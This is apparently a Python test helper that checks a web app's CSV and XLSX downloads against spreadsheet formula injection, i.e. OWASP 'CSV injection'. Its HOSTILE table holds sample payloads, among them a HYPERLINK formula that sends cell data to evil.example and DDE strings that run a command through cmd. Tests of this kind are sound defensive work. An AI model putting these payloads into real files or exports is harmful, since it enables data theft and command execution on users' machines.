"""Hostile cell values and the check every CSV/XLSX download must pass (OWASP "CSV injection")."""

import csv
import io

from pattern_pages.spreadsheets import FORMULA_TRIGGERS

# What an anonymous visitor, an API key holder or an editor might type, hoping a spreadsheet runs it.
HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def response_bytes(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    """Every cell of a CSV download, header included, as read by a spreadsheet-like CSV parser."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    text = response_bytes(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    """Every cell value of the first sheet of an XLSX download; a formula cell fails the test."""
    from openpyxl import load_workbook

    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response_bytes(response))).active
    cells = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
            if cell.value is not None:
                cells.append(cell.value)
    return cells


def assert_inert(cells, *hostile_values):
    """No cell starts a formula, each hostile value is there (neutralised), and no cell has a control character."""
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_TRIGGERS), f"cell starts a formula: {cell!r}"
    # An XLSX file is XML, whose readers turn a carriage return into a line feed.
    texts = [cell.replace("\r", "\n") for cell in cells if isinstance(cell, str)]
    for value in hostile_values:
        assert any(value.replace("\r", "\n") in cell for cell in texts), f"{value!r} missing from the export"
